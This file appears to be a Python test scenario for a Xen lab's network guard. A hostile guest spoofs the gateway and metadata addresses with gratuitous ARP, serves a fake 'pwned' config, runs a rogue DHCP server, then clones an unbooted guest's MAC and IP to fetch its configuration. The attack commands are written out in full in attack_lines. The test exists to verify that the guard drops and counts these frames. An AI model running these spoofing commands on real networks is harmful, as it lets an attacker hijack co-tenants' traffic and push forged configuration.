"""The hostile co-tenant (issue 16, scenario 6), on the real vifs of the network scenario.

A registered guest, `lab-evil`, runs a shell as init (no systemd: the attack needs none)
and, before the network scenario's guests boot, does what the guard issue reproduced in
namespaces: it puts the gateway and 169.254.169.254 on its own interface, claims both in
gratuitous ARP once a second, serves a `/v1/config.txt` saying `hostname pwned` and runs
a DHCP server (busybox httpd and udhcpd). The other guests then boot beside it; the
network scenario's own checks (each guest's hostname, root hash and key, read from its
disk) show whether it got anything. Here: the guard's counters must name it (ARP and
DHCP-server drops for its MAC). Then it takes the MAC and address of `lab-ghost`, a
guest registered but never booted, and asks for the ghost's configuration: the guard
must drop its frames on its own vif (a port drop for `vif<domid>.0`), the request must
fail and the ghost's record stay untouched.

Dom0 drives it through xenstore: the lines it runs are left in its directory before it
is unpaused, and phase two waits for a key dom0 writes.
"""

from __future__ import annotations

import contextlib
import time
from typing import Any

from lab.scenarios.common import (
    GATEWAY,
    METADATA,
    Checks,
    Dom0,
    Guest,
    admin,
    create_one,
    run,
    step,
    wait_for,
)
from lab.scenarios.xenstore import PROBE, leave_commands

EVIL = ("lab-evil", "00:16:3e:1a:b0:66", "198.18.0.66")
GHOST = ("lab-ghost", "00:16:3e:1a:b0:67", "198.18.0.67")
# xl's double-quoted string turns \" into ". The lines run in one sh, in order.
INIT = (
    f'init=/bin/sh -- -c \\"xenstore-list {PROBE}/cmd | xargs -I@ xenstore-read -R {PROBE}/cmd/@'
    f' | sh; exec sleep infinity\\"'
)
FAKE_CONFIG = "hostname pwned\\npassword_hash $6$pwned$pwned\\n"
COUNTER_WAIT = 40.0  # the server reads the guard's counters every 10 s


def attack_lines(evil: Guest, ghost: Guest) -> list[str]:
    """What the attacker runs (each line one xenstore value, under 2048 bytes)."""
    nodes = f"{PROBE}"
    return [
        "exec >/dev/console 2>&1",  # its console log shows what it did
        "mount -t tmpfs tmpfs /tmp; modprobe xen-netfront; sleep 3",
        "ip link set lo up; ip link set eth0 up",
        f"ip addr add {evil.address}/24 dev eth0",
        f"ip addr add {GATEWAY}/32 dev eth0; ip addr add {METADATA}/32 dev eth0",
        f"mkdir -p /tmp/www/v1 && printf '{FAKE_CONFIG}' > /tmp/www/v1/config.txt",
        "busybox httpd -f -p 80 -h /tmp/www </dev/null & echo $! >> /tmp/attack.pids",
        f"printf 'interface eth0\\nstart 198.18.0.200\\nend 198.18.0.210\\n"
        f"lease_file /tmp/leases\\nopt router {GATEWAY}\\nopt subnet 255.255.255.0\\n'"
        " > /tmp/udhcpd.conf; touch /tmp/leases;"
        " busybox udhcpd -f /tmp/udhcpd.conf </dev/null & echo $! >> /tmp/attack.pids",
        # one arping per address, one claim a second each: no process per claim (under
        # TCG a fork in a PV guest costs a good part of a second of its vCPU)
        f"for a in {GATEWAY} {METADATA}; do busybox arping -U -c 100000 -I eth0 -s $a $a"
        " </dev/null >/dev/null 2>&1 & echo $! >> /tmp/attack.pids; done",
        f"xenstore-write {nodes}/ready yes",
        # phase two: the ghost's MAC and address, once dom0 says so
        # the first event fires when the watch is set, the second when dom0 writes the key
        f"xenstore-watch -n 2 {nodes}/go-ghost >/dev/null",
        "kill $(cat /tmp/attack.pids)",
        f"ip link set eth0 down; ip addr flush dev eth0; ip link set eth0 address {ghost.mac}",
        f"ip link set eth0 up; ip addr add {ghost.address}/24 dev eth0",
        f"ip route add {METADATA}/32 dev eth0",
        f"curl -s -m 20 -o /tmp/got http://{METADATA}/v1/config.txt </dev/null; echo $? >/tmp/rc",
        f'xenstore-write {nodes}/ghost-result "rc=$(cat /tmp/rc) $(head -c 60 /tmp/got)"',
    ]


def start_attacker(dom0: Dom0) -> tuple[Guest, Guest, int]:
    """Register the attacker and the ghost, boot the attacker and wait until its attack
    is in place. Returns both and the attacker's domid."""
    evil = dom0.guest(*EVIL, extra=INIT)
    ghost = dom0.guest(*GHOST)
    for guest in (evil, ghost):
        guest.register()
    evil.make_disk()
    step("creating the hostile co-tenant")
    create_one(evil, paused=True)
    domid = evil.domid()
    if domid is None:
        raise RuntimeError(f"{evil.name} has no domain")
    base = f"/local/domain/{domid}/{PROBE}"
    leave_commands(domid, [line + "\n" for line in attack_lines(evil, ghost)])
    run(["xl", "unpause", evil.name])
    wait_for(
        f"{evil.name}'s attack in place",
        lambda: run(["xenstore-read", f"{base}/ready"], check=False).stdout.strip() == "yes",
        240,
        2.0,
    )
    return evil, ghost, domid


def _drops() -> dict[str, dict[str, int]]:
    status, body = admin("GET", "/api/v1/guard")
    if status != 200 or not isinstance(body, dict):
        return {}
    return dict(body.get("drops") or {})


def check_attack(checks: Checks, evil: Guest) -> None:
    """After the other guests configured: the guard's counters name the attacker."""
    seen: dict[str, int] = {}

    def counted() -> bool:
        seen.update(_drops().get(evil.mac, {}))
        return seen.get("arp", 0) > 0 and seen.get("server", 0) > 0

    with contextlib.suppress(TimeoutError):  # the checks below say what was missing
        wait_for("the guard's counters for the attacker", counted, COUNTER_WAIT, 2.0)
    checks.report("hostile.arp_dropped", seen.get("arp", 0) > 0, f"drops for {evil.mac}: {seen}")
    checks.report(
        "hostile.dhcp_server_dropped", seen.get("server", 0) > 0, f"drops for {evil.mac}: {seen}"
    )


def check_ghost(checks: Checks, evil: Guest, ghost: Guest, domid: int) -> None:
    """The attacker as the powered-off ghost: dropped on its own port, nothing served."""
    base = f"/local/domain/{domid}/{PROBE}"
    before = ghost.vm()
    run(["xenstore-write", f"{base}/go-ghost", "yes"])
    run(["xenstore-chmod", f"{base}/go-ghost", f"n{domid}"])
    result: dict[str, Any] = {}

    def answered() -> bool:
        done = run(["xenstore-read", f"{base}/ghost-result"], check=False)
        result["text"] = done.stdout.strip()
        return done.returncode == 0

    wait_for(f"{evil.name} as {ghost.name}", answered, 120, 2.0)
    text = str(result["text"])
    checks.report(
        "hostile.ghost_request_failed",
        not text.startswith("rc=0") and "pwned" not in text and "hostname" not in text,
        f"the attacker's curl as the ghost: {text!r}",
    )
    port = f"vif{domid}.0"
    deadline = time.monotonic() + COUNTER_WAIT
    port_drops = 0
    while time.monotonic() < deadline and port_drops == 0:
        port_drops = _drops().get(port, {}).get("port", 0)
        if port_drops == 0:
            time.sleep(2.0)
    checks.report(
        "hostile.ghost_port_dropped", port_drops > 0, f"port drops on {port}: {port_drops}"
    )
    after = ghost.vm()
    checks.report(
        "hostile.ghost_untouched",
        after["state"] == "registered" and after.get("state_times") == before.get("state_times"),
        f"{ghost.name}: state {after['state']}, state_times {sorted(after.get('state_times', {}))}",
    )
